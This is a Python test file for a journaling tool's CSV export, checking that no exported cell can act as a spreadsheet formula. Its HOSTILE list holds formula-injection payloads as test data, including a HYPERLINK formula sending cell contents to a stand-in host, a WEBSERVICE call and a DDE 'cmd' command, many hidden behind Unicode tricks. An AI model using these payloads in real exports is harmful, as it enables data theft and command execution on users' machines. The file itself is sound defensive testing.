"""`export csv`: numbers are numbers, words are words, and no cell is a formula anywhere."""

import csv
import io
import re
import shutil
import subprocess
from collections.abc import Iterator
from datetime import date, datetime
from decimal import Decimal
from functools import cache
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from stillpd.insight.period import Asked, period_at
from stillpd.insight.portfolio import portfolio, whole
from stillpd.journal.first_page import open_journal
from stillpd.journal.folder import read_journal
from stillpd.model.entry import Activity, Ask, Commitment, Entry, TimeSample
from stillpd.model.header import Header
from stillpd.model.journal import Journal
from stillpd.render.export_csv import TABLES, _cells, as_bytes
from tests.conftest import DEMO

ZONE = ZoneInfo("America/New_York")
AT = datetime(2026, 6, 5, 23, 59, tzinfo=ZONE)

HOSTILE = [
    "=1+1", '=HYPERLINK("http://e/?"&A1)', "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "\N{NO-BREAK SPACE}=1+1", "\u200b=1+1", "\ufeff=1+1",
    "\u2060\u00ad\u200e =1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1", "\N{FULLWIDTH PLUS SIGN}1+1", "\N{FULLWIDTH HYPHEN-MINUS}1+1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)", "\N{SMALL PLUS SIGN}1", "\N{MINUS SIGN}1+1", "a\n=1+1",
    "a\r\n =1+1", "a\r=1+1", "a\u2028=1+1", "a;=1+1", "a\t=1+1", 'a;"=1+1', '"=1+1"', '";=1+1;"',
    "a\nb,=1+1", 'a"\n"b",=1+1', "\0=1+1", "\x1b=1+1", "a\x0b=1+1", "\N{IDEOGRAPHIC SPACE}=1+1",
    "\u3164=1+1", "\u2800=1+1", "=cmd|' /C calc'!A0", "a\n\t=1+1", "\t", "'=1+1", "=", "\u034f=1+1",
    '=WEBSERVICE("http://e")', "\U000e0001=1+1", "{=1+1}",
]  # fmt: skip


@cache
def dana() -> Journal:
    return read_journal(open_journal(DEMO))


def made(journal: Journal, table: str, asked: Asked | None = None, **said: bool) -> bytes:
    period = period_at(journal.calendar, AT, asked or Asked())
    return as_bytes(portfolio(whole(journal, AT), period), table=table, **said)


def rows(raw: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), strict=True))


def hostile_journal(texts: list[str]) -> Journal:
    at = datetime(2026, 3, 2, 12, tzinfo=ZONE)
    entries: list[Entry] = []
    for number, text in enumerate(texts):
        told: dict[str, Any] = {"at": at, "path": f"entries/{number}.md"}
        entries += [
            Commitment(**told, id=text, text=text, to=text, goals=(text,), because=text,
                       after=text, outcome="missed"),
            Ask(**told, id=text, what=text, who=text, again=text, cost=text, gain=text, body=text),
            Activity(**told, title=text, provider=text, topic=text, goal=text, try_=text,
                     hours=Decimal("-1.5")),
            TimeSample(**told, id=text, hours={text: 2}),
        ]  # fmt: skip
    return Journal(header=Header(id="x", timezone="America/New_York"), entries=tuple(entries))


BLANKS = '\\s"\0-\x1f\x7f-\x9f\xad\u034f\u200b-\u200f\u202a-\u202e\u2060-\u206f\u3164\u2800\ufeff'
BLANKS += "\U000e0000-\U000e007f"
FORMULA = re.compile(f"[{BLANKS}]*[=+\\-@\u2212\uff0b\uff0d\uff1d\uff20\ufe62\ufe63\ufe66\ufe6b]")


def as_others_read_it(text: str) -> Iterator[str]:
    """Iterate over the cells as programs find them: by other separators, or line by line."""
    lines = re.split("\r\n|[\n\r\u2028\u2029]", text)
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            yield from row
        for line in lines:
            for row in csv.reader([line], delimiter=delimiter):
                yield from row


def expect_no_formula(text: str) -> None:
    for cell in as_others_read_it(text):
        if not re.fullmatch(r"-?\d+(\.\d+)?", cell):
            assert not FORMULA.match(cell), repr(cell)
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not {cell[:1] for cell in row} & {"\t", "\r"}


@pytest.mark.parametrize("table", TABLES)
def test_no_cell_begins_as_a_formula_does_however_it_is_read(table: str) -> None:
    text = made(hostile_journal(HOSTILE), table).decode("utf-8")
    expect_no_formula(text)
    if table != "readings":
        assert len(rows(text.encode())) == len(HOSTILE)


hostile_words = st.text(
    st.sampled_from("=+-@＝－;,\t\r\n\"' \u00a0\u200b\ufeff\u2028\0\x0b\x85ab1")
    | st.characters(exclude_categories=["Cs"]),
    max_size=12,
)


@settings(max_examples=1000, deadline=None)
@given(text=hostile_words, beside=hostile_words)
def test_whatever_somebody_wrote_it_is_no_formula(text: str, beside: str) -> None:
    out = io.StringIO(newline="")
    csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerow(
        _cells([text, beside], raw=False)
    )
    expect_no_formula(out.getvalue())


def held_down(text: str) -> str:
    """Return the words of a cell that stands alone in its row."""
    [cell] = _cells([text], raw=False)
    return str(cell)


OBEYED = re.compile(
    "[\0-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u180e\u200b\u200e\u200f\u2028-\u202e"
    "\u2060-\u206f\ufeff\ufff9-\ufffb\U000e0000-\U000e0fff]"
)


@settings(max_examples=500, deadline=None)
@given(text=hostile_words)
def test_only_a_mark_is_added_and_what_a_screen_might_obey_is_shown(text: str) -> None:
    made = held_down(text)
    assert not OBEYED.search(made)
    if not OBEYED.search(text):
        assert made.replace("'", "") == text.replace("'", "")


def test_what_a_screen_might_obey_is_shown_as_what_it_is() -> None:
    assert held_down("a\u202eb\u2028c\x85d\0e") == "a\\u202eb\\u2028c\\x85d\\x00e"
    assert held_down("one\r\ntwo\rthree") == "one\ntwo\nthree"
    assert held_down("می\u200cخواهم 👩\u200d🏫") == "می\u200cخواهم 👩\u200d🏫"


@pytest.mark.parametrize(
    "text", ["", "plain words", "A - B", "it's 3-5", "a, -b", "x = y", "who@school.example", "½ -"]
)
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert held_down(text) == text


def test_words_stay_as_they_are_where_that_was_asked_for() -> None:
    raw = made(hostile_journal(HOSTILE), "asks", raw=True)
    assert [row["what"] for row in rows(raw)] == HOSTILE


def test_words_are_quoted_numbers_are_not_and_lines_end_with_both_signs() -> None:
    raw = made(hostile_journal(["Schön"]), "hours")
    head, row, rest = raw.split(b"\r\n")
    assert head == (
        b'"id","day","title","provider","topic","mode","hours","did","goal","try","owned"'
    )
    assert (
        row
        == ('"\'entries/0.md","2026-03-02","Schön","Schön","Schön","",-1.5,"","Schön","Schön",""')
        .replace("'", "")
        .encode()
    )
    assert rest == b""


def test_excel_knows_utf_8_by_a_mark_that_others_do_not_get() -> None:
    plain = made(dana(), "asks")
    assert made(dana(), "asks", excel=True) == b"\xef\xbb\xbf" + plain
    assert not plain.startswith(b"\xef\xbb\xbf")


def test_danas_readings_are_those_of_the_files() -> None:
    found = [row for row in rows(made(dana(), "readings")) if row["measure"] == "contacts"]
    values = [int(row["value"]) for row in found if row["state"] == "recorded"]
    # notes of the demo (tests/data/dana-weeks.md): 34 recorded of 36 planned, 96 in all, 26 met
    assert (len(found), len(values), sum(values)) == (36, 34, 96)
    assert sum(row["met"] == "yes" for row in found) == 26
    assert {row["state"] for row in found} == {"recorded", "not_recorded"}


def test_danas_promises_asks_and_hours_are_those_of_the_files() -> None:
    of_kind = {kind: [e for e in dana().entries if e.kind == kind] for kind in
               ("commitment", "ask", "activity", "time")}  # fmt: skip
    first = date(2025, 8, 18)
    promises = rows(made(dana(), "commitments"))
    assert [row["outcome"] for row in promises].count("kept") == 55
    assert {row["id"] for row in promises} == {e.id for e in of_kind["commitment"]}
    assert len(rows(made(dana(), "asks"))) == len(of_kind["ask"])
    hours = rows(made(dana(), "hours"))
    told = [e for e in of_kind["activity"] if isinstance(e, Activity) and e.day >= first]
    assert [Decimal(row["hours"]) for row in hours] == [e.hours for e in told]
    samples = [e for e in of_kind["time"] if isinstance(e, TimeSample)]
    assert len(rows(made(dana(), "time"))) == sum(len(e.hours) for e in samples)


def test_rows_are_those_of_the_period_that_was_asked_for() -> None:
    october = Asked(first=date(2025, 10, 1), last=date(2025, 10, 31))
    days = [row["made"] for row in rows(made(dana(), "commitments", october))]
    assert days
    assert all(day.startswith("2025-10") for day in days)


# In a real spreadsheet ---------------------------------------------------------------------------

OFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(not OFFICE, reason="LibreOffice is not here (Debian: libreoffice-calc)")
@pytest.mark.parametrize("separator", ["44", "44/59/9"])
def test_no_cell_is_a_formula_in_libreoffice(tmp_path: Path, separator: str) -> None:
    for table in ("commitments", "asks", "hours"):
        (tmp_path / f"{table}.csv").write_bytes(made(hostile_journal(HOSTILE), table))
    bare = made(hostile_journal(HOSTILE), "asks", raw=True)
    (tmp_path / "raw.csv").write_bytes(bare)
    files = sorted(tmp_path.glob("*.csv"))
    subprocess.run(
        [
            str(OFFICE), f"-env:UserInstallation=file://{tmp_path}/office", "--headless",
            f"--infilter=CSV:{separator},34,76,1,,0,false,true", "--convert-to", "fods",
            "--outdir", str(tmp_path), *map(str, files),
        ],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip
    found = {file.stem: formulas(file.with_suffix(".fods")) for file in files}
    assert found.pop("raw"), "a formula that nobody held down is one: the test can see it"
    assert found == {"commitments": [], "asks": [], "hours": []}


def formulas(file: Path) -> list[str]:
    return re.findall(r'table:formula="([^"]*)"', file.read_text("utf-8"))
